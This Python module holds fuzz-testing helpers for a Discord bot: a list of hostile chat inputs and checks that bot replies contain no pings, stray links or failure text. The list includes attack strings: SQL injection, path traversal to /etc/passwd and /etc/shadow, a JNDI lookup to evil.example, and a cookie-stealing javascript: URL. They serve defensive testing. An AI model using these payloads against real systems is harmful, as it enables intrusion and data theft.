"""Hostile input and the checks every reply must pass, shared by the e2e tests and the load benchmark.

The fragments are what people (and bots) actually paste into chat: mentions, markdown, code blocks,
links, right-to-left and zero-width characters, control bytes, emoji sequences, SQL and paths.
"""

from __future__ import annotations

import json
import logging
import re
from collections.abc import Iterable

from hypothesis import strategies as st

from tests.e2e.emulator import JSON

HOSTILE_FRAGMENTS = (
    "@everyone",
    "@here",
    "<@123456789012345678>",
    "<@!123456789012345678>",
    "<@&123456789012345678>",
    "<#123456789012345678>",
    "</ask:123456789012345678>",
    "[click here](https://evil.example/phish)",
    "[x](javascript:alert(1))",
    "javascript:alert(document.cookie)",
    "https://evil.example/phish?x=1",
    "<https://evil.example/hidden>",
    "www.evil.example",
    "```python\nprint('hi')\n```",
    "```",
    "`code`",
    "**bold**",
    "||spoiler||",
    "> quoted",
    "# Heading",
    "-# subtext",
    "- item",
    "1. item",
    "~~strike~~",
    "__underline__",
    "\\",
    "\u202egnp.exe",  # right-to-left override
    "\u2067isolate\u2069",
    "ما هو موقف بوتين من المحادثات",  # Arabic
    "האם פוטין פתוח לשיחות",  # Hebrew
    "\u200b",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\x00",
    "\x07",
    "\x1b[31mred\x1b[0m",
    "\r\n",
    "🙂",
    "👨\u200d👩\u200d👧\u200d👦",
    "🇺🇦",
    "Z\u0351\u0352\u0353algo",  # combining marks
    "'; DROP TABLE cache; --",
    "1 OR 1=1",
    '" OR ""="',
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/zero",
    "file:///etc/shadow",
    "%00%2e%2e%2f",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%n",
)
REAL_WORDS = (
    "Is",
    "Putin",
    "open",
    "to",
    "direct",
    "talks",
    "with",
    "Ukraine",
    "What",
    "did",
    "NATO",
    "ask",
    "Russia",
    "ceasefire",
    "Rutte",
    "Zelensky",
    "strikes",
    "civilians",
    "?",
)


def hostile_questions() -> st.SearchStrategy[str]:
    """Empty, blank, huge, and every hostile fragment mixed with real question words and arbitrary text."""
    fragment = st.sampled_from(HOSTILE_FRAGMENTS)
    word = st.sampled_from(REAL_WORDS)
    mixed = st.lists(st.one_of(fragment, word, st.text(max_size=12)), min_size=1, max_size=20).map(" ".join)
    return st.one_of(
        st.just(""),
        st.text(alphabet=" \t\n\r\u00a0\u2003\u3000\u200b\ufeff", max_size=40),
        st.integers(min_value=9_000, max_value=10_000).map(lambda n: ("Putin talks " * n)[:10_000]),
        st.lists(fragment, min_size=1, max_size=8).map(" ".join),
        mixed,
        mixed,
        mixed,
    )


# --------------------------------------------------------------------------- what every reply must satisfy

RAW_MENTION = re.compile(r"@(?:everyone|here)|<@[!&]?\d+>|<#\d+>|</[\w -]+:\d+>")
BARE_URL = re.compile(r"\b[a-zA-Z][a-zA-Z0-9+.-]{1,15}://[^\s)>\]]+")
MD_LINK = re.compile(r"\]\(<?([^)>\s]+)>?\)")
FAILURE_TEXT = "Something went wrong"


def texts_of(msg: JSON) -> list[str]:
    """Every piece of text Discord would show or parse in a message."""
    out = [msg.get("content") or ""]
    for e in msg.get("embeds") or []:
        out += [e.get("title") or "", e.get("description") or "", (e.get("footer") or {}).get("text") or ""]
        out += [(e.get("author") or {}).get("name") or "", e.get("url") or ""]
        for f in e.get("fields") or []:
            out += [f.get("name") or "", f.get("value") or ""]
    return out


def reply_problems(msg: JSON, payload: JSON | None, corpus_urls: Iterable[str]) -> list[str]:
    """What is wrong with a reply the bot sent (empty when it is fine): a ping, a raw mention a client
    would render, a link that is not one of the corpus's citation URLs, a generic failure message."""
    problems: list[str] = []
    allowed = set(corpus_urls)
    if payload is not None:
        am = payload.get("allowed_mentions")
        if am is None or am.get("parse") or am.get("users") or am.get("roles") or am.get("replied_user"):
            problems.append(f"allowed_mentions would let something ping: {am!r}")
    for text in texts_of(msg):
        if m := RAW_MENTION.search(text):
            problems.append(f"raw mention {m.group(0)!r} in {text[:80]!r}")
        for url in MD_LINK.findall(text):
            if url not in allowed:
                problems.append(f"markdown link to {url!r} which is not a corpus citation")
        for url in BARE_URL.findall(text):
            if url not in allowed:
                problems.append(f"live URL {url!r} which is not a corpus citation")
        if FAILURE_TEXT in text:
            problems.append(f"a generic failure reached the user: {text[:120]!r}")
    if not any(t.strip() for t in texts_of(msg)):
        problems.append("an empty reply")
    return problems


class ErrorLog(logging.Handler):
    """Collects ERROR records (a swallowed exception shows up here even if the user saw a reply)."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)

    def summary(self) -> list[str]:
        return [f"{r.name}: {r.getMessage()}" for r in self.records]


def dump(msg: JSON) -> str:
    return json.dumps(msg, ensure_ascii=False)[:600]
